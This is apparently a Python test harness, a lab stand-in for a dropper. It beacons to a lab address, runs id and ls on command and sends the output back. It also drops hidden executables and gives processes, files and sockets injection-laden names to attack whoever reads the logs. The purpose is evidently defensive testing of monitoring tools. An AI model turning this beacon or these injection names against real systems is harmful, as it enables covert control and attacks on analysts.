"""The stand-in for a dropper whose names, arguments and paths attack whoever reads the log. It calls one address of the
laboratory and can do only what is listed: id, ls, and a parade of programs that do nothing, under the names and with the
arguments of payloads.tsv. record.sh puts payloads.py before it."""
import ctypes
import itertools
import os
import socket
import subprocess

HOME = ("10.66.4.9", 8447)
COMMANDS = {"who": ["id", "-un"], "list": ["ls", "-la", "Documents"]}
CALLS = [  # family, address: datagrams, so that nobody needs to answer
    (socket.AF_INET, ("10.66.4.9", 0)),
    (socket.AF_INET, ("0.0.0.0", 53)),
    (socket.AF_INET, ("127.0.0.1", 65535)),
    (socket.AF_INET, ("239.255.255.250", 1900)),
    (socket.AF_INET6, ("::ffff:10.66.4.9", 8448)),
    (socket.AF_INET6, ("::1", 6443)),
    (socket.AF_INET6, ("fd00:66::9", 0)),
    (socket.AF_INET6, ("fe80::dead:beef", 546, 0, socket.if_nametoindex("eth0"))),
    (socket.AF_INET6, ("ff02::1", 1, 0, socket.if_nametoindex("eth0"))),
]
libc = ctypes.CDLL(None)
libc.prctl.argtypes = [ctypes.c_int, ctypes.c_char_p]
libc.connect.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int]
NAME = 15  # PR_SET_NAME


def child(work, *given):
    """Runs something in a process of its own and waits for it."""
    pid = os.fork()
    if pid == 0:
        try:
            work(*given)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def drop(path, seed):
    """One program more."""
    with open(path, "wb") as file:
        file.write(seed)
    os.chmod(path, 0o755)


def run(folder, path, arguments):
    os.chdir(folder)
    os.execve(path, arguments, {})


def whisper(payload):
    libc.prctl(NAME, payload.text)


def herald(payloads):
    libc.prctl(NAME, b"<i>herald</i>")
    for payload in payloads:
        child(whisper, payload)


def mover(folder, payloads):
    """A file with five names, and one more, ..."""
    libc.prctl(NAME, b"</title>mover")
    os.chdir(folder)
    names = [payload.text * payload.times for payload in payloads]
    for n in range(0, len(names), 5):
        with open(names[n], "wb"):
            pass
        for before, after in itertools.pairwise(names[n:n + 5] + [b"kept-%d.txt" % (n // 5)]):
            os.rename(before, after)


def caller(folder, payloads):
    libc.prctl(NAME, b"caller=1|x")
    os.chdir(folder)
    for family, address in CALLS:
        socket.socket(family, socket.SOCK_DGRAM).connect(address)
    for payload in payloads:
        name = b"\0" * (payload.place == "abstract") + payload.text
        there = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        there.bind(name)
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect(name)
    nowhere = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    libc.connect(nowhere.fileno(), bytes(16), 16)  # AF_UNSPEC
    libc.connect(nowhere.fileno(), b"\x02\x00", 2)  # too short for its family
    kernel = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    kernel.connect((0, 0))


def parade(payloads, seed):
    at = {place: [p for p in payloads if p.place == place] for place in {p.place for p in payloads}}
    base = os.fsencode(os.getcwd()) + b"/.fonts"
    os.mkdir(base)
    share = -(-len(at["argument"]) // len(at["name"]))
    folders = []
    for n, name in enumerate(at["name"]):
        folder = base + b"/" + at["folder"][n % len(at["folder"])].text
        if folder not in folders:
            os.mkdir(folder)
            folders.append(folder)
        program = folder + b"/" + name.text
        drop(program, seed)
        given = itertools.chain.from_iterable(map(arguments, at["argument"][n * share:(n + 1) * share]))
        child(run, folder, program, [name.text, *given])
    child(herald, at["comm"])
    child(mover, folders[0], at["rename"])
    child(caller, folders[1], at["socket"] + at["abstract"])
    for payload in at["deep"]:
        os.chdir(base)
        for _ in range(payload.times):
            os.mkdir(payload.text)
            os.chdir(payload.text)
        drop(b"deep", seed)
        child(run, b".", b"./deep", [b"deep"])


listed = read("payloads.tsv")
with open("seed", "rb") as file:
    program = file.read()
home = socket.create_connection(HOME)
for line in home.makefile():
    if line.strip() == "parade":
        parade(listed, program)
    elif line.strip() in COMMANDS:
        home.sendall(subprocess.run(COMMANDS[line.strip()], capture_output=True).stdout)
    home.sendall(b"ok\n")
